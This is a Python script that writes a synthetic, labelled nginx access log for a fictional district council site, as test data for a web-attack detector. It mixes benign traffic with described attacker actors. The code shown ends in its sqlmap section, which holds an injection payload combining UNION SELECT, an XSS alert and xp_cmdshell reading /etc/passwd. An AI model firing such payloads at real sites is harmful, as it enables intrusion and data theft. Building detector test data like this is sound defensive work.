#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""make_example_log.py: write the labelled example log of vigil.

    scripts/make_example_log.py [OUTDIR]      default: examples/ of the source tree
    scripts/make_example_log.py --check [DIR] regenerate in memory, compare with DIR (examples/)

Writes OUTDIR/access.log (nginx "combined", about 4,000 lines) and OUTDIR/access.labels.tsv
(line, actor, kind, payload, class). The traffic is that of a fictional district council site
(www.northvale.example) from 2026-09-20 to 2026-10-15: residents browsing, searching (often with
awkward but legitimate text), downloading documents, logging in and writing to the council;
search-engine bots, feed readers, an uptime monitor; and a dozen attacking sources, each a
coherent actor (sqlmap, Nikto, gobuster, an XSS prober, path traversal, command injection,
Log4Shell, SSTI, a WordPress brute force, botnet exploit sweeps ...). Three lines are
malformed on purpose and one is a TLS handshake sent to the plain-HTTP port (a valid line).

Everything is deterministic: a fixed seed, no clock, no environment. Running it twice gives
byte-identical files (--check verifies the committed copy). Client addresses are synthetic:
picked from public ranges of several registries so that geolocation shows several countries;
they belong to no real attacker or user. Attack infrastructure inside payloads uses the
documentation range 198.51.100.0/24 and the .example domain.

Labels: kind is attack, benign or malformed; payload is 1 when the request itself carries an
attack (an injected value, a sensitive-file or admin-panel probe, an exploit path, an attack
tool's user agent, a credential-guessing POST), 0 otherwise (an attacker's plain request, all
benign traffic); class is the intended vigil class (sqli xss traversal rfi cmdi code ssti probe
tool, or the behaviour classes bruteforce and scan) of a payload request, empty otherwise;
detect says what can see it: "request" (a per-request detector must flag the line alone),
"behaviour" (only the pattern of a source's requests shows it: credential guessing, probing
of paths that are harmless one at a time), "context" (a single weak signal, such as a lone quote
after a number, that only the response or the requests around it confirm), empty when payload
is 0.
"""
import calendar
import os
import random
import sys
import time
import urllib.parse
import zlib

SEED = 20260920
T_START = calendar.timegm((2026, 9, 20, 0, 0, 0))
T_END = calendar.timegm((2026, 10, 16, 0, 0, 0))
# The server wrote local time (+0200) for a while after a container rebuild (TZ=Europe/Berlin):
# this stretch crosses the month boundary, so months must be counted in UTC.
LOCAL_FROM = calendar.timegm((2026, 9, 30, 6, 0, 0))
LOCAL_TO = calendar.timegm((2026, 10, 1, 18, 0, 0))
BENIGN_TARGET = 3420  # benign lines wanted (visitor sessions are added until reached)

SITE = "https://www.northvale.example"
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

def at(y, mo, d, h, mi, s=0):
    return calendar.timegm((y, mo, d, h, mi, s, 0, 0, 0))


# ---- nginx formatting ------------------------------------------------------------------------

def ngx_escape(b):
    """Escapes bytes as nginx's access log does (escape=default): control bytes, '"', '\\' and
    bytes >= 0x7f become \\xHH (upper-case hex)."""
    out = bytearray()
    for c in b:
        if c < 0x20 or c == 0x22 or c == 0x5C or c >= 0x7F:
            out += b"\\x%02X" % c
        else:
            out.append(c)
    return bytes(out)


def fmt_time(t):
    off = 2 * 3600 if LOCAL_FROM <= t < LOCAL_TO else 0
    tm = time.gmtime(t + off)
    return "%02d/%s/%04d:%02d:%02d:%02d %s" % (tm.tm_mday, MONTHS[tm.tm_mon - 1], tm.tm_year,
                                               tm.tm_hour, tm.tm_min, tm.tm_sec,
                                               "+0200" if off else "+0000")


def b(s):
    return s if isinstance(s, bytes) else s.encode("utf-8")


class Rec:
    """One logged request (or a raw malformed line) with its label."""
    __slots__ = ("t", "seq", "ip", "request", "status", "size", "referer", "ua", "actor", "kind",
                 "payload", "cls", "raw", "detect")

    def __init__(self, t, ip, request, status, size, referer, ua, actor, kind, payload, cls,
                 raw=None, detect=""):
        self.t, self.ip, self.request, self.status, self.size = t, ip, request, status, size
        self.referer, self.ua, self.actor, self.kind = referer, ua, actor, kind
        self.payload, self.cls, self.raw = payload, cls, raw
        self.detect = detect or ("request" if payload else "")
        self.seq = 0

    def line(self):
        if self.raw is not None:
            return self.raw
        ref = ngx_escape(b(self.referer)) if self.referer else b"-"
        ua = ngx_escape(b(self.ua)) if self.ua else b"-"
        return b"%s - - [%s] \"%s\" %d %d \"%s\" \"%s\"" % (
            b(self.ip), fmt_time(self.t).encode(), ngx_escape(b(self.request)), self.status,
            self.size, ref, ua)


RECS = []


def emit(t, ip, method, target, proto, status, size, referer, ua, actor, kind="benign",
         payload=0, cls="", detect=""):
    request = b(method) + b" " + b(target) + (b" " + b(proto) if proto else b"")
    RECS.append(Rec(int(t), ip, request, status, size, referer, ua, actor, kind, payload, cls,
                    detect=detect))


def size_of(path, lo=6000, hi=26000):
    return lo + zlib.crc32(b(path)) % (hi - lo)


# ---- the site --------------------------------------------------------------------------------

PAGES = [
    "/", "/about/", "/about/councillors", "/about/council-meetings", "/about/budget-2026",
    "/services/", "/services/waste-and-recycling", "/services/waste-and-recycling/bin-day",
    "/services/waste-and-recycling/bulky-waste", "/services/parking/permits",
    "/services/parking/fines", "/services/planning", "/services/planning/applications",
    "/services/council-tax", "/services/council-tax/pay", "/services/libraries",
    "/services/housing", "/services/schools/admissions", "/services/births-deaths-marriages",
    "/news/", "/news/2026/09/flood-defence-works-begin", "/news/2026/09/library-hours-change",
    "/news/2026/09/autumn-festival-programme", "/news/2026/10/cycle-lanes-consultation",
    "/news/2026/10/council-tax-reminder", "/news/2026/10/winter-gritting-routes",
    "/events/", "/events/autumn-festival-2026", "/events/citizens-advice-drop-in",
    "/events/repair-cafe-october", "/contact", "/accessibility", "/privacy", "/jobs/",
    "/jobs/2026-041-parks-officer", "/jobs/2026-044-library-assistant",
    "/consultations/cycle-lanes", "/report/pothole", "/report/street-light",
]
POPULAR = ["/", "/services/waste-and-recycling/bin-day", "/services/parking/permits",
           "/services/council-tax", "/news/", "/services/libraries", "/events/autumn-festival-2026",
           "/news/2026/09/flood-defence-works-begin", "/jobs/"]
DOCS = [
    "/documents/annual-report-2025.pdf", "/documents/budget-2026-27.pdf",
    "/documents/minutes/2026-09-17-full-council.pdf",
    "/documents/waste-collection-calendar-2026.pdf",
    "/documents/planning/local-plan-2040-draft.pdf",
    "/documents/forms/parking-permit-application.pdf",
    "/documents/easy-read/council-tax-guide.pdf",
]
DOWNLOADS = ["annual-report-2025.pdf", "budget-2026-27.pdf", "waste-collection-calendar-2026.pdf",
             "local-plan-2040-draft.pdf", "cycle-lanes-consultation-map.pdf"]
NEWS_IMAGES = {
    "/news/2026/09/flood-defence-works-begin": "/media/news/2026/flood-works-1200.jpg",
    "/news/2026/09/autumn-festival-programme": "/media/news/2026/festival-poster-1200.webp",
    "/news/2026/10/cycle-lanes-consultation": "/media/news/2026/cycle-lane-map-1200.png",
    "/events/autumn-festival-2026": "/media/events/festival-stage.jpg",
    "/": "/media/home/hero-riverside.webp",
}
ASSETS_FIRST = ["/assets/css/main.4f1c2a9e.css", "/assets/js/vendor.91aa0c3f.js",
                "/assets/js/app.b7d3e012.js", "/assets/img/northvale-logo.svg",
                "/assets/fonts/source-sans-3-regular.woff2"]
MISSING = ["/servcies/parking/permits", "/news/2025/03/old-consultation-closed",
           "/documents/annual-report-2024.pdf", "/apple-touch-icon.png",
           "/apple-touch-icon-precomposed.png", "/events/summer-fair-2025", "/contact-us",
           "/services/waste-and-recycling/bin-day)", "/jobs/2025-017-gardener"]
# Old links from the previous CMS, redirected (301) by the new site.
LEGACY = ["/index.php?option=com_content&view=article&id=87&Itemid=12",
          "/index.php?option=com_content&view=category&id=9", "/about", "/news", "/events",
          "/services/parking/permits/", "/en/services/council-tax"]

QUERIES_EN = [
    "bin collection day", "council tax band", "parking permit renewal", "library opening hours",
    "planning application 2026/0457", "recycling centre opening times", "report a pothole",
    "school admissions 2027", "bulky waste collection cost", "register to vote",
    "housing benefit", "street lights not working", "noise complaint", "food hygiene rating",
    "allotments waiting list", "jobs", "council meeting minutes september",
    "flood defence works", "christmas market 2026", "garden waste subscription", "blue badge",
    "dog fouling fine", "wedding venues", "birth certificate copy", "cycle lanes consultation",
    "missed bin", "green bin", "swimming pool timetable", "citizens advice", "autumn festival",
]
# Awkward but legitimate text: a detector that flags these produces false positives.
QUERIES_AWKWARD = [
    "it's time to vote", "what's the council tax for", "o'brien street parking",
    "\"opening hours\" library", "\"bulky waste\" collection price", "union station car park",
    "select committee report 2025", "drop-off points recycling", "script for the event",
    "alert levels flood warning", "1=1 meaning", "what does 1=1 mean in maths",
    "../ in a text file path", "$(pwd) command meaning", "or 1=1 is that a bug?",
    "https://www.northvale.example/services/parking/permits", "www.gov.uk council tax",
    "C:\\Users\\me\\Downloads\\form.pdf won't open", "rock & roll night",
    "50% off swimming <18", "fish & chips van permit", "i <3 northvale",
    "where is the town hall?", "table tennis club", "insert coin parking meter broken",
    "delete my account", "update my address", "sleep clinic", "exec committee members",
    "benchmark school results", "echo chamber debate", "cat adoption centre",
    "ping pong tables park", "{festival} map", "#northvale autumn", "email@example.org",
    "\U0001F6B2 bike parking", "\U0001F389 autumn festival", "caf\u00e9 licence",
]
QUERIES_INTL = {
    "de": ["M\u00fcllabfuhr Termine", "Parkausweis beantragen", "Stadtb\u00fccherei \u00d6ffnungszeiten"],
    "fr": ["horaires de la d\u00e9ch\u00e8terie", "carte de stationnement r\u00e9sident",
           "d\u00e9claration de naissance"],
    "es": ["\u00bfc\u00f3mo pagar el impuesto municipal?", "recogida de muebles"],
    "pl": ["zg\u0142oszenie odbioru \u015bmieci", "podatek lokalny op\u0142ata"],
    "tr": ["\u00e7\u00f6p toplama g\u00fcnleri", "otopark izni ba\u015fvurusu"],
    "uk": ["\u0434\u043e\u0432\u0456\u0434\u043a\u0430 \u043f\u0440\u043e \u043c\u0456\u0441\u0446\u0435 \u043f\u0440\u043e\u0436\u0438\u0432\u0430\u043d\u043d\u044f",
           "\u0432\u0438\u0432\u0456\u0437 \u0441\u043c\u0456\u0442\u0442\u044f"],
    "ru": ["\u0432\u044b\u0432\u043e\u0437 \u043c\u0443\u0441\u043e\u0440\u0430 \u0433\u0440\u0430\u0444\u0438\u043a"],
    "ar": ["\u0645\u0648\u0627\u0639\u064a\u062f \u062c\u0645\u0639 \u0627\u0644\u0646\u0641\u0627\u064a\u0627\u062a",
           "\u0636\u0631\u064a\u0628\u0629 \u0627\u0644\u0645\u062c\u0644\u0633"],
    "zh": ["\u5783\u573e\u6536\u96c6\u65f6\u95f4", "\u505c\u8f66\u8bb8\u53ef\u8bc1"],
    "ja": ["\u3054\u307f\u53ce\u96c6\u65e5", "\u56f3\u66f8\u9928 \u958b\u9928\u6642\u9593"],
    "ko": ["\uc4f0\ub808\uae30 \uc218\uac70 \uc694\uc77c"],
    "hi": ["\u0915\u091a\u0930\u093e \u0938\u0902\u0917\u094d\u0930\u0939 \u0915\u093e \u0926\u093f\u0928"],
    "el": ["\u03ce\u03c1\u03b5\u03c2 \u03bb\u03b5\u03b9\u03c4\u03bf\u03c5\u03c1\u03b3\u03af\u03b1\u03c2 \u03b2\u03b9\u03b2\u03bb\u03b9\u03bf\u03b8\u03ae\u03ba\u03b7\u03c2"],
    "he": ["\u05d0\u05d9\u05e1\u05d5\u05e3 \u05d0\u05e9\u05e4\u05d4"],
    "vi": ["l\u1ecbch thu gom r\u00e1c"],
    "pt": ["coleta de lixo hor\u00e1rio", "licen\u00e7a de estacionamento"],
    "it": ["raccolta rifiuti ingombranti"],
}

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36 OPR/114.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/482.0.0.45.109;FBBV/654321012;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.6;FBSS/3;FBCR/;FBID/phone;FBLC/en_GB;FBOP/5]",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/129.0.6668.81 Mobile Safari/537.36 Instagram 350.0.0.42.91 Android (33/13; 450dpi; 1080x2177; samsung; SM-A536B; a53x; s5e8825; de_DE; 642156223)",
]

# Visitor networks: /16 or /32 prefixes of access networks (IPv4 and IPv6) with the language of
# most of their users. Addresses are synthetic (random host parts).
V4_NETS = [("86.140", "en"), ("90.205", "en"), ("109.150", "en"), ("31.52", "en"),
           ("81.98", "en"), ("91.12", "de"), ("79.211", "de"), ("90.12", "fr"), ("90.88", "fr"),
           ("83.5", "pl"), ("83.24", "pl"), ("83.40", "es"), ("78.170", "tr"), ("88.230", "tr"),
           ("73.22", "en"), ("24.5", "en"), ("49.36", "hi"), ("126.12", "ja"), ("151.24", "it"),
           ("62.167", "de"), ("189.6", "pt"), ("41.13", "en"), ("105.112", "en"),
           ("1.144", "en"), ("213.127", "en"), ("46.211", "uk"), ("181.46", "es"),
           ("95.24", "ru"), ("123.160", "zh"), ("121.135", "ko"), ("113.160", "vi")]
V6_NETS = [("2a00:23c5", "en"), ("2a02:c7c", "en"), ("2003:e5", "de"), ("2a02:8108", "de"),
           ("2a01:cb00", "fr"), ("2601:644", "en"), ("2400:4050", "ja"), ("2001:1c00", "en")]


def visitor_ip(r):
    if r.random() < 0.14:
        net, lang = r.choice(V6_NETS)
        # a /32 prefix, a random /64 inside it, a random interface identifier: 8 groups
        ip = "%s:%x:%x:%x:%x:%x:%x" % (net, r.randrange(1, 0xffff), r.randrange(0, 0xffff),
                                       r.randrange(1, 0xffff), r.randrange(1, 0xffff),
                                       r.randrange(1, 0xffff), r.randrange(1, 0xffff))
        return ip, lang
    net, lang = r.choice(V4_NETS)
    return "%s.%d.%d" % (net, r.randrange(0, 256), r.randrange(1, 255)), lang


def token(r, n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"):
    return "".join(r.choice(alphabet) for _ in range(n))


def b64url(data):
    import base64
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt_like(r, sub):
    header = b64url(b'{"alg":"HS256","typ":"JWT"}')
    body = b64url(('{"sub":"%s","purpose":"newsletter-confirm","iat":%d}'
                   % (sub, 1790000000 + r.randrange(0, 3000000))).encode())
    return "%s.%s.%s" % (header, body, token(r, 43))


def form_q(s):
    """application/x-www-form-urlencoded, as browsers submit a GET form."""
    return urllib.parse.quote_plus(s, safe="*")


def js_q(s):
    """encodeURIComponent, as the site's autocomplete script builds its requests."""
    return urllib.parse.quote(s, safe="-_.!~*'()")


# ---- benign: visitors ------------------------------------------------------------------------

class Person:
    def __init__(self, idx, r):
        self.actor = "visitor-%04d" % idx
        self.ip, self.lang = visitor_ip(r)
        self.ua = r.choice(UA_BROWSERS)
        self.proto = "HTTP/2.0" if r.random() < 0.8 else "HTTP/1.1"
        self.sessions = 0


def pick_time(r):
    """A moment with a day/night and weekend rhythm (most visits 07:00-22:00 UTC)."""
    while True:
        t = r.randrange(T_START, T_END)
        hour = (t // 3600) % 24
        weekday = (t // 86400 + 3) % 7  # 1970-01-01 was a Thursday; 5, 6 = Sat, Sun
        w = 1.0 if 7 <= hour < 22 else 0.15
        if weekday >= 5:
            w *= 0.6
        if r.random() < w:
            return t


def landing(r, p):
    """Returns (path+query, referer) for the first request of a session."""
    k = r.random()
    if k < 0.30:
        eng = r.choice(["https://www.google.com/", "https://www.google.co.uk/",
                        "https://www.bing.com/", "https://duckduckgo.com/",
                        "https://www.ecosia.org/"])
        return r.choice(POPULAR + PAGES), eng
    if k < 0.40:
        return r.choice(POPULAR) + "?fbclid=IwAR" + token(r, 58), "https://l.facebook.com/"
    if k < 0.46:
        return (r.choice(PAGES) + "?utm_source=newsletter&utm_medium=email&utm_campaign="
                "2026-%02d-residents-update&utm_content=%s" % (r.choice([9, 10]),
                                                               r.choice(["button", "link-2"])),
                "-")
    if k < 0.50:
        return (r.choice(POPULAR) + "?gclid=Cj0KCQjw" + token(r, 78) + "&gad_source=1",
                "https://www.google.com/")
    if k < 0.53:
        return (r.choice(PAGES) + "?_gl=1*%s*_ga*%s*_ga_7QK2C4N5ZX*%s" % (
            token(r, 7, "abcdefghijklmnopqrstuvwxyz0123456789"),
            b64url(b"1706552318.1727%d" % r.randrange(100000, 999999)),
            b64url(b"1727%d.3.1.1727%d.0.0.0" % (r.randrange(100000, 999999),
                                                 r.randrange(100000, 999999))).replace("=", ".")),
                "https://www.northvale-tourism.example/")
    if k < 0.56:
        return ("/newsletter/confirm?token=" + jwt_like(r, p.actor), "-")
    if k < 0.58:
        return ("/account/verify?code=" + token(r, 22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnop"
                                                 "qrstuvwxyz0123456789+/") + "%3D%3D"
                "&state=" + b64url(b'{"return":"/services/parking/permits","lang":"en"}') + "",
                "-")
    if k < 0.61:
        return (r.choice([m for m in MISSING if "." not in m.rsplit("/", 1)[-1]]),
                r.choice(["-", "https://www.northvale-forum.example/t/412"]))
    if k < 0.64:
        return r.choice(LEGACY), r.choice(["-", "https://old-links.example/list.html"])
    if k < 0.67:
        return r.choice(POPULAR), "https://t.co/" + token(r, 10)
    return r.choice(POPULAR + PAGES[:20]), "-"


def status_of(path):
    base = path.split("?", 1)[0]
    if base in MISSING or path in MISSING:
        return 404
    if path in LEGACY or base in ("/about", "/news", "/events"):
        return 301
    return 200


def body_size(path, status):
    if status == 404:
        return 153 if "." in path.rsplit("/", 1)[-1] else 5214
    if status == 301:
        return 169
    if status == 304:
        return 0
    if path.endswith(".pdf") or path.startswith("/documents/download"):
        return size_of(path, 180000, 2400000)
    return size_of(path.split("?", 1)[0])


class Cycle:
    """Hands out the items of a list in a shuffled round-robin, so that every one is used."""

    def __init__(self, items, r):
        self.items, self.r, self.queue = list(items), r, []

    def next(self):
        if not self.queue:
            self.queue = list(self.items)
            self.r.shuffle(self.queue)
        return self.queue.pop()


AWKWARD = None  # a Cycle over QUERIES_AWKWARD, set by build()


def visitor_session(r, p, t):
    p.sessions += 1
    first_visit = p.sessions == 1
    em = lambda tt, m, path, st, ref, size=None: emit(  # noqa: E731
        tt, p.ip, m, path, p.proto, st, body_size(path, st) if size is None else size,
        ref, p.ua, p.actor)

    def page(tt, path, ref, with_assets):
        st = status_of(path)
        em(tt, "GET", path, st, ref)
        url = SITE + path
        if st == 301:
            loc = {"/about": "/about/", "/news": "/news/", "/events": "/events/",
                   "/services/parking/permits/": "/services/parking/permits",
                   "/en/services/council-tax": "/services/council-tax"}.get(path, "/news/")
            tt += 1
            em(tt, "GET", loc, 200, ref)
            url = SITE + loc
            path = loc
        if with_assets and not (st == 404 and "." in path.rsplit("/", 1)[-1]):
            for a in ASSETS_FIRST:
                tt += r.choice([0, 0, 1])
                em(tt, "GET", a, 200 if first_visit else 304, url)
            if first_visit and r.random() < 0.5:
                em(tt, "GET", "/favicon.ico", 200, url, 4286)
            if first_visit and "iPhone" in p.ua and r.random() < 0.5:
                em(tt, "GET", "/apple-touch-icon.png", 404, "-")
        img = NEWS_IMAGES.get(path.split("?", 1)[0])
        if img:
            em(tt + r.choice([0, 1]), "GET", img, 200, url)
        return tt, url

    target, ref = landing(r, p)
    t, url = page(t, target, ref, True)
    for _ in range(r.choice([0, 0, 1, 1, 1, 2, 2, 3, 4, 6])):
        t += r.randrange(4, 140)
        k = r.random()
        if k < 0.28:  # a search, sometimes with suggestions first, then a result
            if r.random() < 0.35:
                q = AWKWARD.next()
            elif p.lang in QUERIES_INTL and r.random() < 0.55:
                q = r.choice(QUERIES_INTL[p.lang])
            else:
                q = r.choice(QUERIES_EN)
            if r.random() < 0.4:
                for n in (3, 6, len(q)):
                    if n <= len(q):
                        em(t, "GET", "/api/search/suggest?term=" + js_q(q[:n]), 200, url,
                           180 + n * 37)
                        t += r.choice([0, 1])
            target = "/search?q=" + form_q(q)
            if r.random() < 0.15:
                target += "&page=2"
            em(t, "GET", target, 200, url, size_of(target, 9000, 16000))
            url = SITE + target
            if r.random() < 0.6:
                t += r.randrange(3, 40)
                t, url = page(t, r.choice(PAGES), url, False)
        elif k < 0.40:  # a document
            if r.random() < 0.5:
                d = r.choice(DOCS)
            else:
                d = "/documents/download?file=" + r.choice(DOWNLOADS)
            em(t, "GET", d, 200, url)
        elif k < 0.45:  # bin-day lookup with a postcode
            pc = "NV%d %d%s" % (r.randrange(1, 9), r.randrange(1, 9),
                                r.choice(["AB", "QX", "LD", "EW", "HT"]))
            target = "/services/waste-and-recycling/bin-day?postcode=" + form_q(pc)
            em(t, "GET", target, 200, url, size_of(target, 7000, 9000))
            url = SITE + target
        elif k < 0.51:  # login
            ret = r.choice(["%2Faccount%2Fpermits", "%2Fservices%2Fparking%2Fpermits%2Fapply",
                            "https%3A%2F%2Fwww.northvale.example%2Faccount%2Fcouncil-tax"])
            target = "/login?return=" + ret
            em(t, "GET", target, 200, url, 6120)
            t += r.randrange(8, 40)
            if r.random() < 0.2:  # mistyped password once
                em(t, "POST", "/login", 200, SITE + target, 6388)
                t += r.randrange(6, 20)
            em(t, "POST", "/login", 302, SITE + target, 0)
            em(t + 1, "GET", "/account/", 200, SITE + target, 9412)
            url = SITE + "/account/"
        elif k < 0.55:  # contact form
            em(t, "GET", "/contact", 200, url)
            t += r.randrange(40, 300)
            em(t, "POST", "/contact", 303, SITE + "/contact", 0)
            em(t + 1, "GET", "/contact/thanks", 200, SITE + "/contact", 5630)
            url = SITE + "/contact/thanks"
        elif k < 0.58:
            t, url = page(t, r.choice(MISSING + LEGACY), url, False)
        else:
            t, url = page(t, r.choice(PAGES), url, False)


# ---- benign: machines ------------------------------------------------------------------------

UA_GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
UA_GOOGLE_M = ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
               "(KHTML, like Gecko) Chrome/129.0.6668.100 Mobile Safari/537.36 (compatible; "
               "Googlebot/2.1; +http://www.google.com/bot.html)")
UA_BING = ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
           "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36")
UA_YANDEX = "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"


def bots(r):
    crawl = PAGES + DOCS + ["/news/?page=2", "/news/?page=3", "/events/?month=2026-10",
                            "/sitemap.xml", "/robots.txt"] + MISSING[:3] + LEGACY[:2]
    for name, ips, uas, per_day, proto in (
            ("bot-googlebot", ["66.249.66.%d" % i for i in (1, 33, 65, 71, 160)],
             [UA_GOOGLE, UA_GOOGLE_M], 8, "HTTP/1.1"),
            ("bot-bingbot", ["40.77.167.%d" % i for i in (3, 44, 129)] + ["157.55.39.%d" % i
                                                                          for i in (12, 201)],
             [UA_BING], 4, "HTTP/1.1"),
            ("bot-yandexbot", ["5.255.253.%d" % i for i in (7, 96)] + ["213.180.203.58"],
             [UA_YANDEX], 2, "HTTP/1.1")):
        t = T_START + r.randrange(0, 3600)
        while t < T_END:
            path = r.choice(crawl)
            if r.random() < 0.04:
                path = "/robots.txt"
            st = status_of(path)
            if path.endswith(".pdf") and r.random() < 0.3:
                st = 304
            emit(t, r.choice(ips), "GET", path, proto, st, body_size(path, st), "-",
                 r.choice(uas), name)
            t += r.randrange(int(86400 / per_day * 0.3), int(86400 / per_day * 1.7))


def feeds(r):
    for name, ip, ua, every in (
            ("feed-feedly", "52.70.182.%d",
             "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 14 subscribers; like FeedFetcher-Google)",
             4 * 3600),
            ("feed-freshrss", "78.46.97.%d", "FreshRSS/1.24.3 (Linux; https://freshrss.org)",
             6 * 3600),
            ("feed-inoreader", "35.187.132.%d",
             "Mozilla/5.0 (compatible; inoreader.com; 3 subscribers)", 8 * 3600)):
        host = r.randrange(10, 250)
        t = T_START + r.randrange(0, every)
        while t < T_END:
            st = 200 if r.random() < 0.3 else 304
            emit(t, ip % host, "GET", "/news/feed.xml", "HTTP/1.1", st, 0 if st == 304 else 18744,
                 "-", ua, name)
            t += every + r.randrange(-120, 120)


def monitor(r):
    t = T_START + 137
    ua = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
    ips = ["216.144.250.150", "69.162.124.235", "216.144.248.24"]
    while t < T_END:
        emit(t, r.choice(ips), "HEAD", "/", "HTTP/1.1", 200, 0, "-", ua, "monitor-uptimerobot")
        t += 5400 + r.randrange(-3, 4)


def survey_scanner(r):
    """A research scanner: a plain GET, then a TLS ClientHello on the plain-HTTP port, which
    nginx logs (escaped) with status 400. A valid line, not an attack."""
    ip, ua = "162.142.125.219", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"
    for day, hh in ((22, 4), (8, 17)):
        mo = 9 if day > 15 else 10
        t = at(2026, mo, day, hh, 12, 40)
        emit(t, ip, "GET", "/", "HTTP/1.1", 200, size_of("/"), "-", ua, "scanner-survey")
        if day == 8:
            hello = (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
                     + bytes(r.randrange(0, 256) for _ in range(32)) + b"\x20"
                     + bytes(r.randrange(0, 256) for _ in range(32))
                     + b"\x00\x3e\x13\x02\x13\x03\x13\x01\xc0\x2c\xc0\x30\x00\x9f")
            RECS.append(Rec(t + 2, ip, hello, 400, 157, "", "", "scanner-survey", "benign", 0, ""))
        emit(t + 3, ip, "GET", "/favicon.ico", "HTTP/1.1", 200, 4286, "-", ua, "scanner-survey")


def raw_fetcher(r):
    """A resident's script fetching translated documents with curl, which sends the non-ASCII
    file names raw (nginx logs them as \\xHH)."""
    ip, ua = "2a02:8108:1c40:5e00:9d2:41ff:fe3a:77b1", "curl/8.5.0"
    names = ["/documents/translations/guide-taxe-d\u2019habitation-fran\u00e7ais.pdf",
             "/documents/translations/\u043f\u043e\u0441\u0456\u0431\u043d\u0438\u043a-\u0443\u043a\u0440\u0430\u0457\u043d\u0441\u044c\u043a\u0430.pdf",
             "/documents/translations/M\u00fcll-Kalender-2026.pdf",
             "/documents/translations/\u062f\u0644\u064a\u0644-\u0627\u0644\u0636\u0631\u064a\u0628\u0629.pdf"]
    for day in (24, 1, 11):
        mo = 9 if day > 15 else 10
        t = at(2026, mo, day, 6, 30, 5)
        for i, n in enumerate(names):
            emit(t + i, ip, "GET", n, "HTTP/1.1", 200, size_of(n, 90000, 400000), "-", ua,
                 "script-curl-docs")


# ---- attacks ---------------------------------------------------------------------------------

def pct(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


def attack(t, ip, method, target, proto, status, size, referer, ua, actor, cls, payload=1,
           detect=""):
    emit(t, ip, method, target, proto, status, size, referer, ua, actor, "attack", payload,
         cls if payload else "", detect if payload else "")


def sqlmap(r):
    ip, actor, ua = "117.50.43.118", "sqlmap-search", "sqlmap/1.7.2#stable (https://sqlmap.org)"
    t = at(2026, 9, 23, 14, 5, 11)

    def go(target, status=200, cls="sqli", delay=0, size=None):
        nonlocal t
        t += delay + (1 if r.random() < 0.4 else 0)
        attack(t, ip, "GET", target, "HTTP/1.1", status,
               size if size is not None else size_of(target, 9000, 16000), "-", ua, actor, cls)

    def rw(n=4):
        return "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz")
                       for _ in range(n))

    # connection, stability and WAF/IPS checks
    go("/search?q=budget", cls="tool")
    go("/search?q=budget&%s=%d%s" % (rw(), r.randrange(1000, 9999), pct(
        " AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM "
        "information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#")),
       status=200)
    go("/search?q=budget", cls="tool")
